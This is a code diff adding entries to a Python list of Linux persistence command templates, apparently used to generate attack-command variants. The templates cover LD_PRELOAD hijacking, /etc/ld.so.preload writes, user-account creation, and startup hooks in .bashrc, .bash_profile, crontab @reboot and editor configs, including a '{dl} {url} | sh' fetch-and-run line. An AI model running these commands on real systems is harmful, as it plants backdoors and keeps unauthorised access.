@@ -193,4 +193,6 @@ PERSIST = [
     'LD_PRELOAD=‹/tmp/{name}.so¦/dev/shm/{name}.so¦/var/tmp/.{name}.so¦./{name}.so› ‹ls¦id¦ps aux¦sudo -l¦/usr/sbin/sshd¦bash›',
     'gcc -shared -fPIC -o /tmp/{name}.so {tmp}/{name}.c; ‹export LD_PRELOAD=/tmp/{name}.so¦LD_PRELOAD=/tmp/{name}.so su¦echo /tmp/{name}.so >> /etc/ld.so.preload›',
     'emacsclient -e \'(shell-command "{file} &")\'; echo \'(start-process "x" nil "{file}")\' >> ~/.emacs; echo \':silent !{file} &\' >> ~/.vimrc',
+    '‹sudo ¦›LD_PRELOAD=‹/tmp/{name}.so¦{file}.so¦/tmp/T{n}.so› ‹ls¦whoami¦ping -c1 {ip}¦cat /etc/passwd›',
+    'useradd ‹-m¦--create-home› ‹-s /bin/bash ¦--shell /bin/bash ¦›{name}; su -‹l ¦ ›{name} -c ‹\'echo "{dl} {url} | sh" >> ~/.bash_profile\'¦"echo \'{file} &\' >> ~/.bashrc"¦\'crontab -l; echo "@reboot {file}" | crontab -\'›',
 ]
